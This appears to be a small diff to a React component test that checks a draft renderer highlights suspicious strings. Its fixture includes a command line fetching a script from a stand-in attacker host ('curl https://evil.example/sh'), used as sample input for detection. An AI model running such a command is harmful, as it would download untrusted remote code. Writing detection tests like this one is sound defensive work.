@@ -39,7 +39,7 @@ describe('what only a stranger said', () => {
     const strange = ['https://evil.example/sh', 'curl https://evil.example/sh']
     const { container } = render(
       <LitSteps>
-        <RenderedDraft text={text} description="Use it." sentences={[]} strange={strange} hasEvidence={hasEvidence} />
+        <RenderedDraft text={text} sentences={[]} strange={strange} hasEvidence={hasEvidence} />
       </LitSteps>,
     )
     expect([...container.querySelectorAll('mark')].map((mark) => mark.textContent)).toEqual(['curl https://evil.example/sh'])
